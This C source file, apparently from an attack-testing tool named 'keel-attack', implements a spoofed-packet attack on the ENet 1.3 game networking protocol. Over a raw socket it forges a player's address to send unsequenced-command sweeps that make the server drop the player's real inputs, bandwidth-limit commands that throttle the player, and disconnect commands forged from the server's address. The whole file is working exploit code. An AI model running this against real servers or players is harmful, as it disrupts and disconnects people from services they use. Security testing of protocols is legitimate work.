// keel-attack: `forge`: ENet's own framing forged from a playing client's
// address and port (and from the server's), through a raw socket: what an
// off-path attacker who knows where a player is can send. See attack.h and
// docs/attacks.md. MIT licence, see LICENSE.
//
// The commands are ENet 1.3's (enet/protocol.h), written byte by byte: a
// protocol header without sent time (peer id in bits 0-11, session in bits
// 12-13, big-endian), then commands of a 4-byte header (command, channel,
// reliable sequence number) and their fields, all big-endian:
//   - unsequenced sweep: SEND_UNSEQUENCED (9, flag unsequenced 0x40) on
//     channel 1, no data, to every peer id (64) and session (4), 64 commands
//     a datagram with groups 0, 1024, ... (ENet's window is 1024 groups),
//     then 33 more a datagram: ENet's window ends half the group space away
//     from the player's real groups, so that it drops every real input;
//   - bandwidth limit: BANDWIDTH_LIMIT (10): incoming 1 byte/s, outgoing 0,
//     to every peer id and session: ENet's throttle then drops most
//     unreliable messages to the player;
//   - disconnect: DISCONNECT (4) from the server's address to the client's
//     peer 0 in each of the 4 sessions.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attack.h"

enum { PEER_IDS = 64, SESSIONS = 4, GROUP_STEP = 1024, MAX_GROUPS = 64 };

static size_t put16(uint8_t *d, uint16_t v)
{
    d[0] = (uint8_t)(v >> 8);
    d[1] = (uint8_t)v;
    return 2;
}

typedef struct forger {
    int raw;
    const at_options *o;
    uint64_t start, sent; ///< when the burst began, its datagrams so far (pacing)
    at_tally t;           ///< the whole run
} forger;

// One forged datagram from `from` to `to`, paced at --rate.
static void send_forged(forger *f, const struct sockaddr_in *from, const struct sockaddr_in *to, const uint8_t *d,
                        size_t n)
{
    static uint8_t packet[AT_FORGED_HEADERS + 2 + MAX_GROUPS * 8];
    at_sleep_until_us(f->start + f->sent * 1000000u / f->o->rate);
    size_t len = at_forge(packet, ntohl(from->sin_addr.s_addr), ntohs(from->sin_port), to, d, n);
    at_tally_sent(&f->t, n, sendto(f->raw, packet, len, 0, (const struct sockaddr *)to, sizeof *to) == (ssize_t)len);
    f->sent++;
}

static uint64_t unsequenced_burst(forger *f, unsigned groups)
{
    uint64_t before = f->sent;
    for (unsigned id = 0; id < PEER_IDS; id++)
        for (unsigned s = 0; s < SESSIONS; s++) {
            uint8_t d[2 + MAX_GROUPS * 8];
            size_t n = put16(d, (uint16_t)(id | (s << 12)));
            for (unsigned g = 0; g < groups; g++) {
                d[n++] = 9 | 0x40;
                d[n++] = 1;
                n += put16(d + n, 0);
                n += put16(d + n, (uint16_t)(g * GROUP_STEP));
                n += put16(d + n, 0);
            }
            send_forged(f, &f->o->victim, &f->o->server, d, n);
        }
    return f->sent - before;
}

static uint64_t bandwidth_burst(forger *f)
{
    uint64_t before = f->sent;
    for (unsigned id = 0; id < PEER_IDS; id++)
        for (unsigned s = 0; s < SESSIONS; s++) {
            uint8_t d[2 + 12] = {0};
            size_t n = put16(d, (uint16_t)(id | (s << 12)));
            d[n++] = 10;
            d[n++] = 0xFF;
            n += put16(d + n, 0);
            d[n + 3] = 1; // incoming bandwidth 1 (u32), outgoing 0
            send_forged(f, &f->o->victim, &f->o->server, d, n + 8);
        }
    return f->sent - before;
}

static uint64_t disconnect_burst(forger *f)
{
    uint64_t before = f->sent;
    for (unsigned s = 0; s < SESSIONS; s++) {
        uint8_t d[2 + 8] = {0};
        size_t n = put16(d, (uint16_t)(s << 12));
        d[n++] = 4;
        d[n++] = 0xFF;
        send_forged(f, &f->o->server, &f->o->victim, d, n + 6);
    }
    return f->sent - before;
}

int at_forge_framing(const at_options *o)
{
    int raw = at_raw_socket();
    if (raw < 0)
        return -raw;
    forger f = {.raw = raw, .o = o, .start = at_now_us()};
    uint64_t unsequenced = unsequenced_burst(&f, MAX_GROUPS);
    at_sleep_until_us(at_now_us() + (uint64_t)o->wait_ms * 1000u);
    f.start = at_now_us();
    f.sent = 0;
    unsequenced += unsequenced_burst(&f, 33); // ends 32768 groups ahead of where the first began
    at_sleep_until_us(at_now_us() + (uint64_t)o->wait_ms * 1000u);
    f.start = at_now_us();
    f.sent = 0;
    uint64_t bandwidth = bandwidth_burst(&f);
    at_sleep_until_us(at_now_us() + (uint64_t)o->wait_ms * 1000u);
    f.start = at_now_us();
    f.sent = 0;
    uint64_t disconnect = disconnect_burst(&f);
    close(raw);
    at_json_begin("forge", o, &f.t);
    char victim[32];
    snprintf(victim, sizeof victim, "%s:%u", inet_ntoa(o->victim.sin_addr), (unsigned)ntohs(o->victim.sin_port));
    at_json_str("victim", victim);
    at_json_u64("unsequenced_sent", unsequenced);
    at_json_u64("bandwidth_limit_sent", bandwidth);
    at_json_u64("disconnect_sent", disconnect);
    at_json_end();
    return 0;
}
